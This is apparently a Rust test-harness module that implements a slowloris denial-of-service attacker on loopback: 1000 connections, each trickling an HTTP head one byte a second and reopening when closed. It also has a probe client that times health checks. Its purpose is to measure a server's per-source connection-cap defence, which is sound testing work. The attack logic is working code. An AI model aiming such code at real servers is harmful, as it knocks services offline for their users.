//! The slowloris attacker: [`CONNECTIONS`] connections from [`FROM`]
//! (127.0.0.2), each trickling a request head one byte a [`TICK`] and never
//! finishing it. A connection the target closes (refused over a cap, or cut by
//! a head timeout) is opened again at the next tick, as slowloris does, so the
//! attack keeps trying to hold all of them open for as long as it lasts. The
//! load tool meanwhile connects from 127.0.0.1: a per-source cap can tell the
//! two apart, which is the defence being measured.
//!
//! One thread and non-blocking sockets (a flood of connects must not stall on
//! a full accept queue); every loop is bounded: the attack ends on
//! [`Attack::stop`] or after [`TICKS_MAX`], and every socket is closed then.

use std::io::{ErrorKind, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, Socket, Type};

/// Connections the attacker tries to hold open.
pub const CONNECTIONS: usize = 1000;
/// The attacker's source address; the load tool uses 127.0.0.1.
pub const FROM: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);
/// Each open connection sends one more byte of its head this often.
const TICK: Duration = Duration::from_secs(1);
/// The attack's longest life (15 min) if nobody stops it.
const TICKS_MAX: u32 = 900;
/// How often a tick's sleep looks at the stop flag.
const STOP_POLL: Duration = Duration::from_millis(20);
/// The start of every head; then `X` for ever (a byte a tick: the 8 KiB head
/// limit is more than two hours away).
const HEAD: &[u8] = b"GET /100 HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ";
/// What a refusal over a connection cap begins with.
const REFUSED: &[u8] = b"HTTP/1.1 503";
/// Bytes of an answer kept, to classify it; reads per tick and connection.
const ANSWER_KEPT_MAX: usize = 64;
const READS_PER_TICK_MAX: usize = 4;

/// What the attacker saw.
#[derive(Clone, Debug, Default)]
pub struct Tally {
    /// Connections opened (each reconnect counts).
    pub opened: u64,
    /// Connects that failed at once (out of ports or descriptors).
    pub open_failed: u64,
    /// Answered 503 and closed: refused over a connection cap.
    pub refused: u64,
    /// Closed without a 503 (a head timeout, a reset) after being held.
    pub cut: u64,
    /// Connections established, unanswered, a tick or more after they
    /// opened, at each tick: the ones the target admitted and holds, and any
    /// still waiting in its accept queue.
    pub held: Vec<usize>,
    /// Connections whose connect had not completed, at each tick (a full
    /// accept queue drops SYNs; the client sends them again).
    pub connecting: Vec<usize>,
}

impl Tally {
    /// The median of `held` over the ticks.
    pub fn held_median(&self) -> usize {
        let mut v = self.held.clone();
        v.sort_unstable();
        v.get(v.len() / 2).copied().unwrap_or(0)
    }

    /// The most connects waiting at once.
    pub fn connecting_max(&self) -> usize {
        self.connecting.iter().copied().max().unwrap_or(0)
    }
}

/// A running attack; [`Attack::stop`] ends it and closes every socket.
pub struct Attack {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<Tally>>,
}

impl Attack {
    /// Starts the attack on `target` (a loopback TCP port).
    pub fn start(target: u16) -> Result<Attack, String> {
        let stop = Arc::new(AtomicBool::new(false));
        let flag = Arc::clone(&stop);
        let to = SocketAddr::from((Ipv4Addr::LOCALHOST, target));
        let thread = std::thread::Builder::new()
            .name("slowloris".into())
            .spawn(move || attack(to, &flag))
            .map_err(|e| format!("cannot start the attacker's thread: {e}"))?;
        Ok(Attack {
            stop,
            thread: Some(thread),
        })
    }

    /// Stops the attack and returns its tally; the sockets are closed when it
    /// returns.
    pub fn stop(mut self) -> Tally {
        self.stop.store(true, Ordering::SeqCst);
        self.thread
            .take()
            .and_then(|t| t.join().ok())
            .unwrap_or_default()
    }
}

impl Drop for Attack {
    /// On panic too: the thread ends within a [`STOP_POLL`] and drops its sockets.
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// One slow connection: how far into its head it is, and what it was answered.
struct Slow {
    stream: TcpStream,
    sent: usize,
    answer: Vec<u8>,
}

/// How a connection ended.
enum End {
    Refused,
    Cut,
}

/// The attack's thread: every tick, the open connections read what came and
/// send a byte; then the closed ones are opened again. The sockets live in
/// `slots` and are closed when it is dropped on return.
fn attack(target: SocketAddr, stop: &AtomicBool) -> Tally {
    let mut tally = Tally::default();
    let mut slots: Vec<Option<Slow>> = (0..CONNECTIONS).map(|_| None).collect();
    for tick in 0..TICKS_MAX {
        let tick_start = Instant::now();
        let (mut held, mut connecting) = (0, 0);
        for slot in slots.iter_mut() {
            let Some(slow) = slot.as_mut() else { continue };
            match step(slow) {
                Ok(()) if slow.stream.peer_addr().is_ok() => held += 1,
                Ok(()) => connecting += 1,
                Err(End::Refused) => {
                    tally.refused += 1;
                    *slot = None;
                }
                Err(End::Cut) => {
                    tally.cut += 1;
                    *slot = None;
                }
            }
        }
        if tick > 0 {
            tally.held.push(held);
            tally.connecting.push(connecting);
        }
        for slot in slots.iter_mut().filter(|s| s.is_none()) {
            match open(target) {
                Some(mut slow) => {
                    tally.opened += 1;
                    // The first byte now; an error shows at the next read.
                    let _ = send_next(&mut slow);
                    *slot = Some(slow);
                }
                None => tally.open_failed += 1,
            }
        }
        while tick_start.elapsed() < TICK {
            if stop.load(Ordering::SeqCst) {
                return tally;
            }
            std::thread::sleep(STOP_POLL);
        }
    }
    tally
}

/// A non-blocking connection from [`FROM`], its connect in progress.
fn open(target: SocketAddr) -> Option<Slow> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM, Some(Protocol::TCP)).ok()?;
    socket.bind(&SocketAddr::from((FROM, 0)).into()).ok()?;
    socket.set_nonblocking(true).ok()?;
    match socket.connect(&target.into()) {
        Ok(()) => {}
        Err(e) if e.raw_os_error() == Some(libc::EINPROGRESS) => {}
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        Err(_) => return None,
    }
    Some(Slow {
        stream: socket.into(),
        sent: 0,
        answer: Vec::new(),
    })
}

/// Reads what the target sent, then sends the next byte. Err when the
/// connection is over.
fn step(slow: &mut Slow) -> Result<(), End> {
    let mut buf = [0u8; 512];
    for _ in 0..READS_PER_TICK_MAX {
        match slow.stream.read(&mut buf) {
            Ok(0) => return Err(ended(slow)),
            Ok(n) => {
                let room = ANSWER_KEPT_MAX.saturating_sub(slow.answer.len());
                slow.answer.extend_from_slice(&buf[..n.min(room)]);
            }
            Err(e) if e.kind() == ErrorKind::WouldBlock => break,
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(_) => return Err(ended(slow)),
        }
    }
    if !slow.answer.is_empty() {
        // Answered (a 503, or a 408 before the close): it is not held.
        return Err(ended(slow));
    }
    send_next(slow).map_err(|()| ended(slow))
}

fn ended(slow: &Slow) -> End {
    if slow.answer.starts_with(REFUSED) {
        End::Refused
    } else {
        End::Cut
    }
}

/// One more byte of the head; Err when the connection is gone.
fn send_next(slow: &mut Slow) -> Result<(), ()> {
    let byte = HEAD.get(slow.sent).copied().unwrap_or(b'X');
    match slow.stream.write(&[byte]) {
        Ok(1) => {
            slow.sent += 1;
            Ok(())
        }
        // Still connecting, or a full send buffer: the byte goes next tick.
        Err(e) if e.kind() == ErrorKind::WouldBlock => Ok(()),
        Err(e) if e.raw_os_error() == Some(libc::ENOTCONN) => Ok(()),
        _ => Err(()),
    }
}

/// The probe's source address: neither the attacker's nor the load tool's.
pub const PROBE_FROM: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 3);
/// A new probe connection this often (after the last one ended).
const PROBE_EVERY: Duration = Duration::from_millis(100);
/// Longest a probe waits to connect and to be answered; slower is a failure.
const PROBE_TIMEOUT: Duration = Duration::from_secs(5);
/// The probe's longest life (10 min of probes) if nobody stops it.
const PROBES_MAX: usize = 6000;

/// A client that the keep-alive load tool is not: a new connection each time,
/// from [`PROBE_FROM`], `GET /health` with `Connection: close`, timed from the
/// connect to the answer's status line. A full accept queue, which the load
/// tool's long-lived connections never meet again, shows here.
pub struct Probe {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<Vec<Option<f64>>>>,
}

impl Probe {
    pub fn start(target: u16) -> Result<Probe, String> {
        let stop = Arc::new(AtomicBool::new(false));
        let flag = Arc::clone(&stop);
        let to = SocketAddr::from((Ipv4Addr::LOCALHOST, target));
        let thread = std::thread::Builder::new()
            .name("probe".into())
            .spawn(move || {
                let mut times = Vec::new();
                while !flag.load(Ordering::SeqCst) && times.len() < PROBES_MAX {
                    times.push(probe_once(to));
                    std::thread::sleep(PROBE_EVERY);
                }
                times
            })
            .map_err(|e| format!("cannot start the probe's thread: {e}"))?;
        Ok(Probe {
            stop,
            thread: Some(thread),
        })
    }

    /// Each probe's time to its answer in ms; None when it failed or timed out.
    pub fn stop(mut self) -> Vec<Option<f64>> {
        self.stop.store(true, Ordering::SeqCst);
        self.thread
            .take()
            .and_then(|t| t.join().ok())
            .unwrap_or_default()
    }
}

impl Drop for Probe {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// One probe: ms from the connect to a `200` status line, or None.
fn probe_once(target: SocketAddr) -> Option<f64> {
    let start = Instant::now();
    let socket = Socket::new(Domain::IPV4, Type::STREAM, Some(Protocol::TCP)).ok()?;
    socket
        .bind(&SocketAddr::from((PROBE_FROM, 0)).into())
        .ok()?;
    socket.connect_timeout(&target.into(), PROBE_TIMEOUT).ok()?;
    let mut stream: TcpStream = socket.into();
    let left = PROBE_TIMEOUT.checked_sub(start.elapsed())?;
    stream.set_read_timeout(Some(left)).ok()?;
    stream.set_write_timeout(Some(left)).ok()?;
    stream
        .write_all(b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        .ok()?;
    let mut answer = [0u8; 12];
    stream.read_exact(&mut answer).ok()?;
    (&answer == b"HTTP/1.1 200").then(|| start.elapsed().as_secs_f64() * 1000.0)
}
